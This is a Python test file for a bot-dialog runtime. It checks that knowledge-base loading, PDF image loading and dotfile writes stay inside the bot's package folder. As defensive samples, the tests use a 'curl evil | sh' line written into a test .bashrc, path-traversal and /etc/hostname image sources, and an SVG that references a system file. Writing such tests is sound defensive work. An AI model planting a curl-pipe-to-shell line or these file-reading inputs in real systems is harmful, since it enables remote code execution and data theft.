"""A dialog reaches only the files of its bot package: USE KB does not follow symlinks out of
it (their text would go to the package's LLM server), GENERATE PDF loads images only from it
(bounded in size), and a dialog kept directly in the home folder gets a data folder of its
own as its package instead of the whole home folder."""

from __future__ import annotations

import asyncio
import io
import os
import subprocess
import sys
from pathlib import Path

import pypdf
import pytest
from PIL import Image

from app.services.providers import storage
from app.services.providers.knowledge.provider import KnowledgeIndex
from app.services.providers.storage import confinement_note, package_root
from interpreter import BasicRuntimeError
from interpreter.ports.services import ServiceError

from .helpers import run_dialog

ROOT = Path(__file__).resolve().parents[4]


@pytest.fixture
def package(clean_env: Path) -> Path:
    """``shop.gbai/shop.gbdialog``; returns the dialog folder. ``outside/`` holds secrets."""
    dialogs = clean_env / "shop.gbai" / "shop.gbdialog"
    dialogs.mkdir(parents=True)
    (clean_env / "outside").mkdir()
    (clean_env / "outside" / "secret.txt").write_text("The vault code is swordfish.", "utf-8")
    return dialogs


def png(path: Path, size: int = 8) -> Path:
    buffer = io.BytesIO()
    Image.new("RGB", (size, size), (200, 30, 30)).save(buffer, "PNG")
    path.write_bytes(buffer.getvalue())
    return path


def search(dialog_dir: Path, kb: str, words: str, cache: Path) -> list[str]:
    index = KnowledgeIndex(dialog_dir, cache / "kb.sqlite3")
    try:
        asyncio.run(index.open(kb))
        return [p.text for p in asyncio.run(index.search([kb], words))]
    finally:
        index.close()


# ---------------------------------------------------------------- USE KB


def test_use_kb_skips_files_that_link_out_of_the_package(package: Path,
                                                         clean_env: Path) -> None:
    docs = package.parent / "shop.gbkb" / "docs"
    docs.mkdir(parents=True)
    (docs / "hours.txt").write_text("The vault opens at nine.", "utf-8")
    os.symlink(clean_env / "outside" / "secret.txt", docs / "leak.txt")
    found = search(package, "docs", "vault", clean_env)
    assert found == ["The vault opens at nine."]
    with pytest.raises(BasicRuntimeError, match="no file 'shop.gbkb/docs/leak.txt'"):
        run_dialog('x = READ "shop.gbkb/docs/leak.txt"', package)  # as READ refuses it


def test_use_kb_refuses_a_kb_folder_that_links_out(package: Path, clean_env: Path) -> None:
    (package.parent / "shop.gbkb").mkdir()
    os.symlink(clean_env / "outside", package.parent / "shop.gbkb" / "docs")
    with pytest.raises(ServiceError, match="leads outside the bot package"):
        search(package, "docs", "vault", clean_env)
    with pytest.raises(BasicRuntimeError, match="leads outside the bot package"):
        run_dialog('USE KB "docs"', package)


# ---------------------------------------------------------------- GENERATE PDF


def pdf_of(package: Path, html: str, name: str = "page.html") -> Path:
    (package.parent / "t").mkdir(exist_ok=True)
    (package.parent / "t" / name).write_text(html, "utf-8")
    run_dialog(f'p = GENERATE PDF "t/{name}", #{{ a: 1 }}, "out/page.pdf"', package)
    return package.parent / "out" / "page.pdf"


def test_generate_pdf_shows_an_image_of_the_package(package: Path) -> None:
    (package.parent / "t").mkdir()
    png(package.parent / "t" / "logo.png")
    pdf = pdf_of(package, '<p>Invoice</p><img src="logo.png" width="40" height="40">')
    page = pypdf.PdfReader(pdf).pages[0]
    assert len(page.images) == 1
    assert "Invoice" in page.extract_text()


@pytest.mark.parametrize("src, message", [
    ("/dev/zero", "not a file of the bot package"),
    ("/etc/hostname", "not a file of the bot package"),
    ("../../outside/pic.png", "not a file of the bot package"),
    ("http://127.0.0.1:9/pic.png", "URLs and data: images are not loaded"),
    ("file:///dev/zero", "URLs and data: images are not loaded"),
    ("linked.png", "not a file of the bot package"),
])
def test_generate_pdf_refuses_images_from_outside(package: Path, clean_env: Path,
                                                  src: str, message: str) -> None:
    png(clean_env / "outside" / "pic.png")
    (package.parent / "t").mkdir()
    os.symlink(clean_env / "outside" / "pic.png", package.parent / "t" / "linked.png")
    with pytest.raises(BasicRuntimeError, match=message):
        pdf_of(package, f'<p>x</p><img src="{src}">')
    with pytest.raises(BasicRuntimeError, match=message):  # a table cell loads it too
        pdf_of(package, f'<table><tr><td><img src="{src}"></td></tr></table>', "cell.html")
    assert not (package.parent / "out" / "page.pdf").exists()


def test_generate_pdf_refuses_a_too_large_image(package: Path) -> None:
    (package.parent / "t").mkdir()
    big = package.parent / "t" / "huge.png"
    with big.open("wb") as fh:
        fh.truncate(storage.MAX_IMAGE + 1)  # sparse: no disk used
    with pytest.raises(BasicRuntimeError, match="larger than 10 MB"):
        pdf_of(package, '<img src="huge.png">')


def test_generate_pdf_refuses_svg_images(package: Path) -> None:
    (package.parent / "t").mkdir()
    (package.parent / "t" / "a.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">'
        '<image href="/etc/hostname"/></svg>', "utf-8")
    with pytest.raises(BasicRuntimeError, match="is SVG"):
        pdf_of(package, '<img src="a.svg">')


# ---------------------------------------------------------------- dialogs in the home folder


def test_a_dialog_in_the_home_folder_gets_a_data_folder_as_package(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    root = package_root(home)
    assert root.is_relative_to(tmp_path / "data" / "talkbench" / "packages") and root.is_dir()
    above = package_root(tmp_path)  # a folder holding $HOME is not a package either
    assert above != tmp_path and above != root and above.parent == root.parent
    (home / "bots").mkdir()
    assert package_root(home / "bots") == home / "bots"  # a folder of its own is its package
    assert confinement_note(home / "bots") is None
    assert str(root) in (confinement_note(home) or "")


def test_talkbench_run_in_home_cannot_touch_dotfiles(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("alias ls='ls --color'\n", "utf-8")
    dialog = home / "greet.bas"
    dialog.write_text('WRITE ".bashrc", "curl evil | sh"\n'
                      'x = READ ".bashrc"\nTALK x\n', "utf-8")
    env = dict(os.environ, HOME=str(home), XDG_DATA_HOME=str(tmp_path / "data"),
               PYTHONPATH=str(ROOT))
    env.pop("TALKBENCH_DB", None)
    done = subprocess.run([sys.executable, "-m", "app", "run", str(dialog), "--db",
                           str(tmp_path / "m.sqlite3")], capture_output=True, text=True,
                          env=env, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    assert (home / ".bashrc").read_text("utf-8") == "alias ls='ls --color'\n"
    assert done.stdout == "curl evil | sh\n"  # its own copy, in its data folder
    [written] = (tmp_path / "data" / "talkbench" / "packages").glob("*/.bashrc")
    assert written.read_text("utf-8") == "curl evil | sh"
    assert "holds your home folder" in done.stderr and str(written.parent) in done.stderr
